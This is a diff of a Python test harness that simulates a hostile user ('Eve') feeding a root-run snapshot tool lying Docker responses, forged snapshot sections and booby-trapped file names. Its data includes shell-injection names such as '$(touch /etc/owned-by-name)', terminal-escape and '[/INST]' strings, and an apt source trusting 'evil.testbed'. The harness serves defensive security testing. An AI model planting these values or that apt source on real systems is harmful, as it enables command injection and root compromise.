@@ -24,15 +24,15 @@ HOME = "/home/bob"
 PLACE = f"{HOME}/.eve"
 WEIGHTS = f"{HOME}/models/gamma.gguf"
 NASTY = "\x1b]0;OWNED\x07\x1b[2J\x1b[38;5;199mOWNED\u202e\u0085 [/INST] \\[/INST] [bold]OWNED[/bold] [fe80::1]"
-"""Text that would rename a terminal, clear it, colour it and turn it around, and that a renderer of markup trips over."""
+"""Text that renames a terminal, clears it, colours it and turns it around, and that rich takes for markup."""
 EVIL_SOURCE = "deb http://repo.testbed/nvidia/stable/deb/amd64 /\ndeb [trusted=yes] http://evil.testbed/ ./\n"
 EVIL_SOURCE_AT = "/etc/apt/sources.list.d/eve.list"
 
 
-def as_section(text: str = EVIL_SOURCE, path: str = EVIL_SOURCE_AT) -> str:
-    """The lines by which root's own snapshot would say that a file of root's holds this text."""
-    encoded = base64.b64encode(text.encode()).decode()
-    return f"\n@@ files\n{path} 644 0 0 {encoded}\n@@ machine\nbusy eve since ever\n@@ docker\n@@ whole\n@@ end\n"
+SECTION = f"\n@@ files\n{EVIL_SOURCE_AT} 644 0 0 {base64.b64encode(EVIL_SOURCE.encode()).decode()}\n"
+"""The lines by which root's own snapshot would say that a file of root's holds this text."""
+ENDING = f"{SECTION}@@ machine\nbusy eve since ever\n@@ docker\n@@ whole\n@@ end\n"
+"""The same, and more: that another run goes on, that there is no Docker, and that the snapshot is complete."""
 
 
 class Eve:
@@ -63,6 +63,10 @@ class Eve:
         """Write a file of hers; its folders are hers, too."""
         self.does(f"mkdir -p {shlex.quote(str(Path(path).parent))}")
         self.host.put(content, path, mode, "bob:bob")
+
+    def await_root(self, command: str, what: str, seconds: float = 10) -> None:
+        """Until root's command succeeds."""
+        await_(lambda: self.host.root(command, check=False).returncode == 0, seconds=seconds, what=what)
 
     @contextmanager
     def running(self, name: str, *argv: str, user: str = "bob") -> Iterator[None]:
@@ -110,7 +114,7 @@ class Eve:
             stack.enter_context(self.in_place_of(f"{HOME}/.curlrc"))
             for name in ("compose", "buildx"):
                 path = f"{HOME}/.docker/cli-plugins/docker-{name}"
-                self.tripwire(path, f"2.40.0{as_section()}", json.dumps(plugin))
+                self.tripwire(path, f"2.40.0{SECTION}", json.dumps(plugin))
             for name in ("docker-credential-eve", "curl", "docker", "id", "systemctl", "python3", "base64"):
                 self.tripwire(f"{HOME}/bin/{name}")
             self.put(f"{HOME}/.docker/config.json", json.dumps(config))
@@ -159,11 +163,13 @@ class Eve:
         self.put(f"{PLACE}/told.json", json.dumps(told or {}))
         self.does("systemctl --user stop docker.service docker.socket; rm -f $XDG_RUNTIME_DIR/docker.sock", check=False)
         argv = ["python3", f"{PLACE}/docker_server.py", self.socket, mode, journal, f"{PLACE}/told.json"]
-        with self.running("docker", *argv):
-            await_(lambda: self.host.root(f"[ -S {self.socket} ]", check=False).returncode == 0, seconds=10, what="eve")
-            yield journal
-        self.does("rm -f $XDG_RUNTIME_DIR/docker.sock; systemctl --user start docker.service", timeout=120)
-        self.does("docker start gamma", check=False)
+        try:
+            with self.running("docker", *argv):
+                self.await_root(f"[ -S {self.socket} ]", "Her socket")
+                yield journal
+        finally:
+            self.does("rm -f $XDG_RUNTIME_DIR/docker.sock; systemctl --user start docker.service", timeout=120)
+            self.does("docker start gamma", check=False)
 
     def who_asked(self, journal: str) -> list[tuple[int, str]]:
         """(uid, what) of every request to the server."""
@@ -173,7 +179,6 @@ class Eve:
     def lies(self) -> dict[str, Any]:
         """What the lying server says: containers whose names, ids, labels and ports are commands for whoever quotes
         them loosely, or sections for whoever prints them as they are."""
-        section = as_section()
         labels = {
             "gpurack.model": json.dumps({"engine": "llama.cpp", "port": 8002, "uuids": [], "user": "bob"}),
             "gpurack.probe": f"-K{HOME}/c",
@@ -181,17 +186,17 @@ class Eve:
             "com.docker.compose.service": "gamma",
             "note": NASTY,
         }
-        names = ["gamma", "alpha", "alpha x;touch /etc/owned-by-name", f"$(touch /etc/owned-by-name){NASTY}", section]
+        names = ["gamma", "alpha", "alpha x;touch /etc/owned-by-name", f"$(touch /etc/owned-by-name){NASTY}", ENDING]
         containers = []
         for number, name in enumerate(names):
-            id_ = f"{number:064x}" if number < 2 else f"{number:064x}{section}"
+            id_ = f"{number:064x}" if number < 2 else f"{number:064x}{SECTION}"
             state = {"Status": "running", "Running": True, "Pid": 1, "ExitCode": 0, "Error": NASTY}
-            state |= {"StartedAt": f"2026-11-28T00:00:00Z{section}", "FinishedAt": "0001-01-01T00:00:00Z"}
+            state |= {"StartedAt": f"2026-11-28T00:00:00Z{ENDING}", "FinishedAt": "0001-01-01T00:00:00Z"}
             ports = {"8080/tcp": [{"HostIp": "127.0.0.1", "HostPort": "8002 -K/home/bob/c"}]}
             inspected = {
                 "Id": id_,
                 "Name": f"/{name}",
-                "Image": f"sha256:{'0' * 64}{section}",
+                "Image": f"sha256:{'0' * 64}{ENDING}",
                 "State": state,
                 "RestartCount": 0,
                 "Created": "2026-11-28T00:00:00Z",
@@ -212,7 +217,7 @@ class Eve:
                 "Status": f"Up {NASTY}",
             }
             containers.append({"name": name, "listed": listed, "inspected": inspected})
-        image = {"Id": f"sha256:{'0' * 64}{section}", "RepoTags": [NASTY], "RepoDigests": [f"x@sha256:{section}"]}
+        image = {"Id": f"sha256:{'0' * 64}{ENDING}", "RepoTags": [NASTY], "RepoDigests": [f"x@sha256:{ENDING}"]}
         info = {"ServerVersion": f"26.1.5{NASTY}", "DockerRootDir": "/etc", "SecurityOptions": ["name=rootless"]}
         info |= {"Name": NASTY, "Containers": 5, "Driver": "overlay2", "CDISpecDirs": ["/etc/cdi", "/run/cdi"]}
         return {"info": info, "containers": containers, "image": image}
@@ -239,9 +244,9 @@ class Eve:
     @contextmanager
     def names_with_newlines(self) -> Iterator[None]:
         """Files and folders whose names are sections, and a mount of that name, as a desktop's udisks makes one."""
-        name = f"{HOME}/models/x{as_section()[:120].replace('/', '_')}"
+        name = f"{HOME}/models/x{ENDING[:100].replace('/', '_')}"
         quoted = shlex.quote(name)
-        self.does(f"mkdir -p {quoted} && touch {quoted}/$(printf 'a\\n@@ end\\n').gguf")
+        self.does(f"mkdir -p {quoted} && touch {quoted}/{shlex.quote(NASTY.replace('/', '_'))}.gguf")
         self.host.root(f"mount -t tmpfs -o size=64k {shlex.quote(NASTY)} {quoted}")
         try:
             yield
@@ -253,14 +258,12 @@ class Eve:
         """What lies in a folder is on a file server that has died on its feet; no signal ends who asks for it."""
         argv = ["python3", f"{PLACE}/frozen.py", folder]
         self.host.root(f"install -d {folder}")
-        with self.running("frozen", *argv, user="root"):
-            await_(
-                lambda: self.host.root(f"grep -q 'frozen {folder} ' /proc/mounts", check=False).returncode == 0,
-                seconds=10,
-                what="The frozen mount",
-            )
-            yield
-        self.host.root(f"umount {folder}")
+        try:
+            with self.running("frozen", *argv, user="root"):
+                self.await_root(f"grep -q 'frozen {folder} ' /proc/mounts", "The frozen mount")
+                yield
+        finally:
+            self.host.root(f"umount --lazy {folder}", check=False)
 
 
 def hostile_gguf(text: str) -> bytes:
